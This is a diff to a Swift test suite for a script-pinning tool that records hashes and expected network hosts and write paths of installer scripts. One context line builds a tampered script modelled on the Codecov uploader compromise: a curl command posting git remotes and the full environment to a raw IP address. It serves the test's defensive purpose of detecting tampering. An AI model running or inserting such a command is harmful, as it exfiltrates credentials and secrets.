@@ -24,6 +24,7 @@ struct LifecycleTests {
         let result = work.scriptpin(["add", "tool", url, "--env", "TOOL_TOKEN", "--yes"])
         #expect(result.status == 0)
         #expect(result.stdout.contains("egress guess, hosts named in the script and a starting point only (`scriptpin run --egress-audit` shows the ones it contacts):\n  egress releases.example.com\n"))
+        #expect(result.stdout.contains("egress lines: none (the network is unrestricted)\nwrite lines: none (writes are unrestricted; `scriptpin run tool --write-audit` lists what it changes)\n"), "\(result.stdout)")
         #expect(result.stdout.contains("sha256       \(sha256Hex(script))\n"))
         #expect(result.stdout.contains("interpreter  bash\n"))
         #expect(result.stdout.contains("  | echo install\n"))
@@ -59,8 +60,11 @@ struct LifecycleTests {
         lines.insert("curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://104.248.94.23/upload/v2 || true", at: 6)
         let tampered = lines.joined(separator: "\n") + "\n"
         server.serve("codecov", tampered)
+        let pinned = try #require(work.directory.read("known-hashes/codecov.pin"))
+        work.directory.write("known-hashes/codecov.pin", pinned + "egress uploads.example.com\nwrite ~/.cache/codecov\nwrite .\n")
         let result = work.scriptpin(["update", "codecov", "--yes"])
         #expect(result.status == 0)
+        #expect(result.stdout.contains("egress lines: uploads.example.com\nwrite lines: ~/.cache/codecov, .\n"), "\(result.stdout)")
         let before = work.directory.write("before", original)
         let after = work.directory.write("after", tampered)
         let reference = ProcessRunner.run("diff", ["-u", before, after], in: work.path).stdout
